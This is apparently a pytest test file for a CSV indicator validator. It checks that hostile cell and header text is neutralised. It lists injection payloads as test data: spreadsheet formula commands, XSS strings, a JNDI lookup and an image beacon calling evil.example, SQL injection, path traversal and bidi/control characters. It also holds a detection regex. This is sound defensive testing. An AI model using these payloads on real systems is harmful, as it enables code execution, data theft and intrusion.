"""Text that came in a file reaches nobody as anything but text."""

import json
import re

import pytest

from indicators.__main__ import main
from indicators.catalogue import load
from indicators.intake import read
from indicators.validation import inert, rules_of, validate
from tests.faulty_files import COLUMNS, FIGURES, text_of

CATALOGUE = load()
RULES = rules_of()
HOSTILE = (
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'x'!A",
    "-2+3+cmd|'x'!A",
    "＝1+1",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://evil.example">IDN</a>',
    "<svg/onload=alert(1)>",
    "[click](https://evil.example)",
    "![](https://evil.example/beacon)",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "%{customdata[0]}",
    "&#x3c;script&#x3e;",
    "\u202eNDI\u202c",
    "I\u2066D\u2069N",
    "ID\u200fN",
    "IDN\x1b[2J\x1b[31m",
    "IDN\x07",
    "IDN\x00",
    "'; DROP TABLE observations; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{found}{fix}",
    "[{fix}]",
    "x" * 2000,
)
ACTIVE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]"
    r"|<[A-Za-z/!?]|\]\(|(?i:javascript|data|https?):(?=\S)|%\{"
)


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def is_a_formula(text: str) -> bool:
    return bool(re.match(r"^\s*[=+@＝＋－＠-]\s*\S", text)) and not re.match(
        r"^[-+]?[\d.,]+$", text
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_any_cell_comes_back_as_inert_text(text):
    for column in COLUMNS:
        rows = [[quoted(cell) for cell in row] for row in FIGURES]
        rows[2][COLUMNS.index(column)] = quoted(text)
        findings = validate(read(text_of(rows), "file.csv", CATALOGUE), CATALOGUE)
        said = [
            part
            for issue in findings
            for part in (
                *(issue.column, issue.found, issue.expected, issue.fix),
                RULES[issue.check].message(issue),
                RULES[issue.check].fix(issue, "id"),
                RULES[issue.check].expected(issue),
            )
        ] + [part for change in findings.changes for part in (change.found, change.read_as)]
        for part in said:
            assert not ACTIVE.search(part), (column, part)
            assert not is_a_formula(part), (column, part)
        assert all(len(issue.found) <= 82 for issue in findings)
        if column not in ("source_detail", "obs_comment"):
            assert any(issue.line == 4 for issue in findings), column


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_the_header_comes_back_as_inert_text(text):
    rows = [[*map(quoted, row), "x"] for row in FIGURES]
    content = text_of(rows, (*COLUMNS, quoted(text)))
    findings = validate(read(content, "file.csv", CATALOGUE), CATALOGUE)
    assert findings.has_errors
    for issue in findings:
        for part in (issue.column, issue.found, RULES[issue.check].message(issue)):
            assert not ACTIVE.search(part)
            assert not is_a_formula(part)


def test_what_runs_in_a_spreadsheet_is_refused_and_what_does_not_is_not():
    def checks(text):
        rows = [[*row[:-1], quoted(text)] for row in FIGURES]
        return set(validate(read(text_of(rows), "f.csv", CATALOGUE), CATALOGUE).found)

    for text in ("=1", "@a", "+a1", "-a1", "-1+2*3", "＝1", " =1"):
        assert checks(text) == {"formula_text"}, text
    for text in ("-", "- provisional", "-5", "+3.2%", "5 = five", "a@b", "<5 years", "a < b"):
        assert not checks(text) & {"formula_text", "markup_text"}, text


def test_the_terminal_is_never_handed_a_control_character(tmp_path, capfdbinary):
    rows = [list(row) for row in FIGURES]
    rows[0][1] = "I\x1b[2J\u202eDN"
    path = tmp_path / "a\x1b[31mb.csv"
    path.write_bytes(text_of(rows))
    main(["check", str(path)])
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", capfdbinary.readouterr().out)
    main(["check", str(path), "--json"])
    document = json.loads(capfdbinary.readouterr().out)
    assert not ACTIVE.search(json.dumps(document["issues"], ensure_ascii=False))


@pytest.mark.parametrize("text", ["IDN", "54.3", "2019–2021", "Việt Nam", "ประเทศไทย", "-5", "-"])
def test_ordinary_text_stays_as_it_is(text):
    assert inert(text) == text


def test_a_file_with_persons_in_it_has_no_other_text_repeated():
    rows = [list(row) for row in FIGURES]
    rows[0][1] = "Siti Aminah"  # a name in the country's cell, which no rule could know
    rows[1][13] = "siti.aminah@contoh.id"
    findings = validate(read(text_of(rows), "f.csv", CATALOGUE), CATALOGUE)
    assert findings.holds_persons
    assert {"unknown_country", "personal_value"} <= set(findings.found)
    assert not [issue for issue in findings if "Siti" in issue.found + issue.fix + issue.expected]
    rows[1][13] = ""
    findings = validate(read(text_of(rows), "f.csv", CATALOGUE), CATALOGUE)
    assert not findings.holds_persons
    assert [issue.found for issue in findings] == ["Siti Aminah"]
